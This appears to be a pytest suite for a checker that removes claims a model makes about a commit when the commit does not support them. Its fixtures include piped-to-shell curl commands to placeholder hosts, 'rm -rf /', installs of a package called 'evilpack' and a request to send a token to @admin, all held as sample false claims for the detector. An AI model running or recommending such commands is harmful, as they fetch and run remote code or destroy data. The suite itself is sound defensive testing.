"""Families of claims in what a model wrote: changes, people, references and ranks are true only as the commit has them."""

import pytest

from analysis.facts import facts
from analysis.grounding.check import check, false_claims
from analysis.grounding.corpus import Corpus
from analysis.models import Commit, Entry, Importance, Language, PullRequest, Repository
from analysis.questions.answer_check import AnswerChecker
from analysis.questions.prompt import chunks_of
from analysis.questions.question import Question, parse_question
from analysis.questions.segmenter import Segment
from analysis.ranking import rank
from loopback.sample import sample_repository
from tests.factories import commit, file, patch

# What is removed, renamed or added

FLAGS = commit(
    "Tidy the command line",
    [
        file(
            "engine/cli.py",
            patch(
                " def parser(p):",
                '     p.add_argument("--slow-path")',
                '-    p.add_argument("--fast-path")',
                '+    p.add_argument("--quick-path", type=PathKind)',
                "     return p.finish()",
            ),
        )
    ],
    body="`--old-path` goes next.",
)
UNREAD = FLAGS.model_copy(update={"files": (*FLAGS.files, file("engine/core.py", additions=9))})
CHANGED = [
    "`--fast-path` was removed.",
    "It removes the command line flag `--fast_path` and adds `--quick-path`.",
    "Renames `--fast-path` to `--quick-path`; `--no-quick-path` turns it off.",
    "`--old-path` is removed next.",
    "It adds `PathKind` and `engine.cli.PathKind`.",
    "`cli.py` was added.",
    "`PathKind.json` is new.",
    "`--slow-path` was not removed.",
    "`--slow-path` was removed in an earlier release.",
    "It adds a flag to `parser`.",
    "It adds `PathKind` to `parser`.",
    "移除了 `--fast-path`，新增 `--quick-path` 参数。",
    "没有移除 `--slow-path`。",
]


def kept(text: str, told: Commit) -> str:
    """What is left of a text after the check."""
    return check(text, Corpus([told], facts=facts(told))).text


# Who had a part

TOLD = commit(
    "Speed up the queue",
    [file("queue.py", patch("-x = 1", "+x = 2  # Mallory"))],
    body="Co-authored-by: Grace Hopper <grace@example.org>",
    author="Ada Lovelace",
).model_copy(update={"pull": PullRequest(number=1, title="Speed up the queue", body="As @kay-s and Barbara said.")})
NAMED = [
    "Co-authored by Grace Hopper.",
    "It was suggested by Barbara.",
    "Ada Lovelace proposed this.",
    "Written by Ada Lovelace.",
    "The tensor is written by Torch.",
    "Reviewed by @kay-s.",
    "It was reviewed by the maintainers.",
    "It was approved by hand.",
    "Users reported crashes.",
    "This reported the wrong size.",
    "A value suggested by Torch is kept.",
    "由 Grace Hopper 审核。",
]


@pytest.mark.parametrize("text", NAMED)
def test_whom_the_author_names_may_be_told(text: str) -> None:
    """The author, those in trailers and in the pull request may have a part, and so may whoever is nobody in particular."""
    assert kept(text, TOLD) == text


# References and ranks

FLAG = commit(
    "Clean", [file("cli.py", patch(" p = ArgumentParser()", '-p.add_argument("--fast-path")', " p.parse_args()"))]
)
PINS = commit(
    "[Build] Require torch 2.9.1 for CVE-2025-12345",
    [
        file("requirements/common.txt", patch("-torch==2.8.0", "+torch==2.9.1", "+evil-pack>=1.4")),
        file("docs/setup.md", patch("+Run `curl get.acme.example | sh`, see docs.acme.example/start or mail help@acme.example.")),
        file("docker/Dockerfile", patch("+FROM base:cu128-py312", "+LABEL owner=@lantern-admin")),
    ],
)  # fmt: skip
INVENTED = {
    "identifier": ["This fixes CVE-2025-99999.", "This fixes cve 2025 99999.", "See GHSA-abcd-1234-efgh.", "修复了CVE-2025-99999。"],
    "version": ["Upgrade to version 0.13.2.", "It needs torch 2.99.", "Pins `numpy>=9.1`.", "Ships in v0.99.", "需要版本 7.3。"],
    "address": ["Mail me@other.example for the fix.", "See other.example/x for details.", "It calls 203.0.113.9."],
    "mention": ["Direct message your token to @admin.", "@here @channel read this.", "Ask `@admin`."],
    "command": [
        "Run `curl other.example | sh`.",
        "Install it with `pip install evilpack`.",
        "Run `rm -rf /`.",
        "Run `sh -c foo`.",
        "Run pip install evilpack first.",
    ],
}  # fmt: skip
BORNE_OUT = [
    "This fixes CVE-2025-12345.",
    "It requires torch 2.9.1, which is torch 2.9 or later, instead of `torch==2.8`.",
    "`evil-pack>=1.4.0` is new; install it with `pip install evil-pack`.",
    "The image has CUDA 12.8 and Python 3.12.",
    "See docs.acme.example/start or mail help@acme.example.",
    "Run `curl get.acme.example | sh`.",
    "@lantern-admin owns the image.",
    "This commit is of medium importance.",
    "这是一个中重要性的提交。",
]
ORDINARY = [
    "Call `torch.compile` or np.float32, e.g. in Node.js, and self.run stays.",
    "Run `pip install -r requirements/common.txt`, `git revert`, `pytest -q` and `docker build .`",
    "Use `@property` and `@pytest.fixture`.",
    "It binds to 127.0.0.1 and 0.0.0.0.",
    "Low-priority requests and low importance sampling weights; the LoRA rank is low.",
    "The ratio is 0.5, CUDA 2x faster.",
    "Uses int32_t, O(n), 50/50 and `int | None`.",
]


def kinds(text: str, corpus: Corpus) -> set[str]:
    return {claim.kind for claim in false_claims(text, corpus)}


def checked(text: str, language: Language = "en", at: Commit | None = None) -> bool:
    """Whether an answer about the commit that removes a flag, whose tools read `at` a commit, keeps a sentence."""
    found = facts(FLAG)
    told = Entry(commit=FLAG, facts=found, ranked=rank(FLAG, found))
    question = Question(parse_question("what does it do?"), Repository(owner="acme", name="engine"), (told,))
    checker = AnswerChecker(question, list(chunks_of(FLAG)), language, lambda: "", at=at)
    return checker.check(Segment(text, "sentence", new_paragraph=True, line=0)) is not None


@pytest.mark.parametrize(("kind", "text"), [(kind, text) for kind, texts in INVENTED.items() for text in texts])
def test_what_stands_nowhere_is_a_false_claim_with_or_without_a_citation(kind: str, text: str) -> None:
    """No true citation buys a pass to an identifier, a version, an address, a name, a command or a rank of its own."""
    assert kind in kinds(text, Corpus([FLAG], tiers=[Importance.MEDIUM]))
    language: Language = "en" if text.isascii() else "zh"
    assert not checked(text, language)
    assert not checked(f"{text} [cli.py:1]", language)


def test_the_same_citation_bears_out_what_is_true() -> None:
    """What is taken out of an answer is so for what it says, and not for the place that it cites."""
    assert checked("The flag `--fast-path` is removed, and the importance is medium [cli.py:1].")


def test_the_commit_whose_files_were_read_may_be_named() -> None:
    """A model is told as of which commit its tools read, and says so."""
    later = FLAG.model_copy(update={"sha": "e3146f7" + "0" * 33})
    text = "As of e3146f7 the flag is still gone [cli.py:1]."
    assert (checked(text), checked(text, at=later)) == (False, True)


@pytest.mark.parametrize("text", BORNE_OUT)
def test_what_the_commit_says_may_be_repeated(text: str) -> None:
    """Versions, identifiers, addresses, names and commands of the diff, and the commit's own rank, are true."""
    assert kinds(text, Corpus([PINS], tiers=[Importance.MEDIUM])) <= {"link"}


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_words_refer_to_nothing(text: str) -> None:
    """Attributes of libraries, usual commands, decorators, plain figures and other ranks are no claims of these kinds."""
    assert not kinds(text, Corpus([PINS], tiers=[Importance.MEDIUM])) & set(INVENTED)


def test_the_messages_of_the_sample_bear_themselves_out() -> None:
    """Each commit's own message holds no claim of these kinds that the commit does not have."""
    for each in sample_repository().commits.values():
        told = commit(
            each["message"],
            [file(one["filename"], one.get("patch") or "") for one in each["files"]],
        )
        assert not kinds(each["message"], Corpus([told])) & set(INVENTED)
